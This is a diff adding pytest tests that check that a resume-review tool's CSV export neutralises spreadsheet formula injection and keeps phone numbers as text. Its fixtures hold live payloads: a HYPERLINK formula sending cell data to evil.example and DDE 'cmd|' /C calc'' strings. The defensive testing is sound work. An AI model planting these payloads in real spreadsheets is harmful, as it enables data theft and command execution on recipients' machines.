@@ -161,3 +161,101 @@ def test_cli_export_and_import_decisions(shortlisted, tmp_path):
                           capture_output=True, text=True, timeout=60)  # fmt: skip
     assert back.returncode == 0, back.stderr
     assert "2 maybe" in back.stdout
+
+
+# --- red team (issue 13, item 8): CSV formula injection -------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2&B2,"Berlin")'
+DDE = "+cmd|' /C calc'!A0"
+EVE = f"""Eve Mallory
+eve@example.org | +49 176 31387734
+
+Experience
+Engineer, Acme 2019 - Present
+{DDE} Python and PostgreSQL services
+{HYPERLINK} Kubernetes
+
+Skills
+Python, PostgreSQL
+"""
+
+
+@pytest.fixture
+def poisoned(shortlisted, tmp_path):
+    """A resume whose lines are formulas, and a person record whose fields are too (as a parser might take them)."""
+    from review.importer import Importer, ImportOptions
+
+    store, job, ids = shortlisted
+    (tmp_path / "eve.txt").write_text(EVE, encoding="utf-8")
+    Importer(store, ImportOptions(job_id=job["id"], workers=1)).run([tmp_path / "eve.txt"])
+    eve = store.scalar("SELECT id FROM people WHERE name = 'Eve Mallory'")
+    with store.transaction() as conn:
+        conn.execute("UPDATE people SET location = ?, title = ?, links = ? WHERE id = ?",
+                     (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", '["-2+3+cmd|\' /C calc\'!A0"]', eve))  # fmt: skip
+        conn.execute("UPDATE applications SET manager_comment = '=1+1 and -2 more', brings = ? WHERE person_id = ?",
+                     ("\t=cmd|' /C calc'!A0 — Eve built Kafka services", eve))  # fmt: skip
+    return store, job, ids | {"eve": eve}
+
+
+def _cells(text: str) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
+
+
+def test_attack_csv_formula_injection_is_neutralised_and_phones_stay_text(poisoned, tmp_path):
+    from review.exports import FORMULA_STARTS
+
+    store, job, ids = poisoned
+    cli = [sys.executable, "-m", "app.cli"]
+    done = subprocess.run(cli + ["export", "--job", job["title"], "--format", "csv", "--out", str(tmp_path / "s.csv"),
+                                 "--include", "all", "--db", str(store.path)], capture_output=True, text=True,
+                          timeout=120)  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    rows = _cells((tmp_path / "s.csv").read_text(encoding="utf-8-sig"))
+    for row in rows:
+        for column, cell in row.items():
+            # What Excel and LibreOffice would evaluate: a cell that starts with a formula character.
+            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (column, cell)
+    eve = next(r for r in rows if int(r["person_id"]) == ids["eve"])
+    assert eve["location"] == "'" + HYPERLINK  # shown as written, one quote in front
+    assert eve["evidence"].startswith("'" + DDE)
+    assert eve["links"].startswith("'-2+3") and eve["brings"].startswith("'\t=cmd")
+    assert eve["headline"].startswith("'@SUM(1+1)")
+    # Phones: grouped, so never a long number Excel rounds or strips; the leading + made safe.
+    assert eve["phones"] == "'+49 176 31387734"
+    ana = next(r for r in rows if int(r["person_id"]) == ids["ana.txt"])
+    assert ana["phones"] == "'+34 612 34 56 78"
+
+
+def test_the_neutralised_csv_round_trips_through_import_decisions(poisoned, tmp_path):
+    store, job, ids = poisoned
+    rows = _cells(to_csv(build_shortlist(store, job, include="all")))
+    eve = next(r for r in rows if int(r["person_id"]) == ids["eve"])
+    assert eve["manager_comment"] == "'=1+1 and -2 more"
+    eve["manager_decision"] = "no"  # the manager answers and leaves the earlier comment as exported
+    out = io.StringIO()
+    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS)
+    writer.writeheader()
+    writer.writerows(rows)
+    result = import_decisions(store, job, out.getvalue(), "Robin Reviewer", "answers.csv")
+    assert result.applied == [(ids["eve"], "no")] and result.problems == []
+    back = application_for(store, ids["eve"], job["id"])
+    assert back["manager_comment"] == "=1+1 and -2 more"  # as written, not with the export's quote
+
+
+@pytest.mark.parametrize("phones, cell", [
+    (["+4917631387734"], "'+49 176 31387734"),
+    (["01761234567"], "'01761234567"),          # as printed, all digits: text, with its leading 0
+    (["030 1234567"], "030 1234567"),           # spaces already keep it text
+    (["+33612345678", "+4917631387734"], "'+33 6 12 34 56 78; +49 176 31387734"),
+])  # fmt: skip
+def test_phones_are_written_so_a_spreadsheet_neither_evaluates_nor_mangles_them(phones, cell):
+    from review.exports import phone_cell
+
+    assert phone_cell(phones) == cell
+
+
+def test_import_decisions_survives_a_row_longer_than_its_header(shortlisted):
+    store, job, ids = shortlisted
+    text = f"person_id,manager_decision,manager_comment\n{ids['ana.txt']},yes,fine,extra,cells\n"
+    result = import_decisions(store, job, text, "Robin Reviewer", "long.csv")
+    assert result.applied == [(ids["ana.txt"], "yes")]
